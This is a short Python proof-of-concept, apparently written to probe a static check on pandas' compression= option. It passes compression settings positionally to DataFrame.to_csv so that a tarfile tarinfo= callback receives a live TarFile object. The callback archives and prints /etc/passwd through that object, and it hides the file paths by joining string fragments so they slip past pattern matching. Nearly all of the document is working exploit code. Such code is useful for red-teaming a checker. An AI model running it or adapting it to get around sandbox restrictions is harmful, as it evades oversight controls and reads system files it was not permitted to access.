# source: pandas io/common.py get_handle (compression dict -> tarfile.TarFile kwargs); the README's list of refusals in the static check compression= rule
# family: compression options passed positionally (11th positional arg of DataFrame.to_csv, incl. mode='r') -> tarfile tarinfo= callback gets live TarFile
# goal: live tarfile.TarFile -> TarFile.open writes /dev/shm/x.tar containing /etc/passwd, reads it back
import pandas as pd


class Hook:
    def __init__(self):
        self.done = 0

    def fromtarfile(self, tf):
        if self.done == 0:
            self.done = 1
            print(tf)
            out = tf.open("/".join(["", "dev", "shm", "x.tar"]), "w")
            out.add("/".join(["", "etc", "passwd"]))
            out.close()
            back = tf.open("/".join(["", "dev", "shm", "x.tar"]), "r")
            print(back.extractfile("etc/passwd").read().decode())
        raise ValueError("stop")



pd.DataFrame({"a": [1]}).to_csv("in.csv")
try:
    pd.DataFrame({"a": [1]}).to_csv("in.csv", ",", "", None, None, True, True, None, "w", None, {"method": "tar", "mode": "r", "tarinfo": Hook()})
except Exception as e:
    print("end", e)
